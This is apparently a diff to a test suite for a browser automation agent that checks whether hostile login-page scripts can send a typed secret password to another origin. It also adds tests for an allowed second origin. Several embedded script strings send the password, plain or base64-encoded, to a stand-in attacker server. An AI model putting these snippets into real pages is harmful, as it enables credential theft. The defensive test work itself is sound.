@@ -60,6 +60,10 @@ const SENDERS: Record<string, string> = {
     document.getElementById('password').addEventListener('input', (e) => { if (e.target.value.length >= 14) SEND() })`,
   // Base64 (a spelling the matcher does not know) every 2 ms, so some are made while the run ends.
   busyAfterRun: `const SEND = (pw) => setInterval(() => fetch(A + '/busy', { method: 'POST', mode: 'no-cors', body: btoa('x' + pw) }), 2)`,
+  // A second origin the task allows: after typing, the page fetches from it and loads an image from it.
+  allowedOther: `let asked = false
+    const SEND = () => { if (!asked) { asked = true; fetch(A + '/allowed-fetch', { mode: 'no-cors' }); new Image().src = A + '/allowed-image.gif' } }
+    document.getElementById('password').addEventListener('input', (e) => { if (e.target.value.length >= 14) SEND() })`,
   afterRun: `const SEND = (pw) => setInterval(() => fetch(A + '/late?p=' + encodeURIComponent(pw), { mode: 'no-cors' }), 500)`,
 }
 const page = (
@@ -135,8 +139,13 @@ afterAll(async () => {
   other?.close()
 })
 
-const signIn = async (kind: string, wait = 1_000) => {
-  scripted.script(callsThenStop(calls))
+const signIn = async (
+  kind: string,
+  wait = 1_000,
+  allowedOrigins?: ReadonlyArray<string>,
+  steps: ReadonlyArray<{ readonly name: string; readonly args: Record<string, unknown> }> = calls,
+) => {
+  scripted.script(callsThenStop(steps))
   const since = attacker.requests.length
   const task = Effect.runSync(
     decodeAgentTask({
@@ -144,7 +153,13 @@ const signIn = async (kind: string, wait = 1_000) => {
       startUrl: `${siteUrl}/login?k=${kind}`,
       inputs: { email: "a@example.com", password: PASSWORD },
       secretInputs: ["password"],
-      constraints: { allowFormSubmission: true, maxSteps: 6, stepTimeoutMs: 8_000, maxDurationMs: 30_000 },
+      constraints: {
+        allowFormSubmission: true,
+        maxSteps: 6,
+        stepTimeoutMs: 8_000,
+        maxDurationMs: 30_000,
+        ...(allowedOrigins === undefined ? {} : { allowedOrigins }),
+      },
     }),
   )
   const result = await scripted.runtime.runPromise(
@@ -223,4 +238,29 @@ it("after typing, a request to another origin without the secret is blocked and 
     ["fill", true],
     ["extract", true],
   ])
+}, 60_000)
+
+it("after typing, requests to a second origin the task allows still reach it", async () => {
+  const { result, sent } = await signIn("allowedOther", 1_000, [siteUrl, attacker.url])
+  expect(result.observations.map((observation) => [observation.tool, observation.ok])).toEqual([
+    ["fill", true],
+    ["fill", true],
+    ["extract", true],
+  ])
+  expect(sent.map((line) => line.split(" ").slice(0, 2).join(" ")).sort()).toEqual([
+    "GET /allowed-fetch",
+    "GET /allowed-image.gif",
+  ])
+}, 60_000)
+
+it("after typing, the run can go on to a second origin the task allows", async () => {
+  const steps = [...calls, { name: "navigate", args: { url: `${attacker.url}/next-page` } }]
+  const { result, sent } = await signIn("thirdParty", 1_000, [siteUrl, attacker.url], steps)
+  expect(result.observations.map((observation) => [observation.tool, observation.ok])).toEqual([
+    ["fill", true],
+    ["fill", true],
+    ["extract", true],
+    ["navigate", true],
+  ])
+  expect(sent.map((line) => line.split(" ").slice(0, 2).join(" "))).toContain("GET /next-page")
 }, 60_000)
